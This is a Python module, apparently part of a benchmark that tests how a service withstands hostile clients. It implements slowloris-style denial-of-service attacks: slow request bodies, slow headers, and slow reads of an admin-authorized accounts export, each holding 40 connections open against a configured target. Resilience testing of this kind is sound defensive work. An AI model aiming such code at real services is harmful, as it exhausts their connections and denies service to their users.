"""Connections that are held for as long as they can be."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress

from benchmarks.hostile.attacks.attacker import Attacker
from benchmarks.hostile.target import BATCH, HOST

CONNECTIONS = 40
HELD = 30.0
"""Seconds that connections are held, then all are closed."""
BETWEEN_BYTES = 8.0
SMALL = 4_096


def send_slow_bodies(attacker: Attacker) -> None:
    """A byte every eight seconds of a body that is to have a thousand."""
    head = f"POST {BATCH} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000\r\n\r\n"
    _hold(attacker, head.encode(), b"{")


def send_slow_headers(attacker: Attacker) -> None:
    """The same with the head of the request."""
    _hold(attacker, f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\nX: ".encode(), b"x")


def read_slowly(attacker: Attacker) -> None:
    """Ask for every account, and read nothing of the answer."""
    key = attacker.workspace.admin_key
    head = f"GET /api/v1/accounts.csv HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {key}\r\n"
    _hold(attacker, f"{head}\r\n".encode(), b"")


def _hold(attacker: Attacker, head: bytes, piece: bytes) -> None:
    """Open connections, send the head and then a piece now and then, and never read."""
    with _connections(attacker.target.port) as connections:
        for connection in connections:
            with suppress(OSError):
                connection.sendall(head)
        for _ in range(int(HELD / BETWEEN_BYTES)):
            if attacker.ended.wait(BETWEEN_BYTES):
                return
            for connection in connections:
                with suppress(OSError):  # closed by the service, as it should be
                    connection.send(piece)


@contextmanager
def _connections(port: int) -> Iterator[list[socket.socket]]:
    with ExitStack() as opened:
        connections = []
        for _ in range(CONNECTIONS):
            connection = opened.enter_context(socket.socket())
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
            connection.settimeout(1)
            with suppress(OSError):
                connection.connect((HOST, port))
                connections.append(connection)
        yield connections
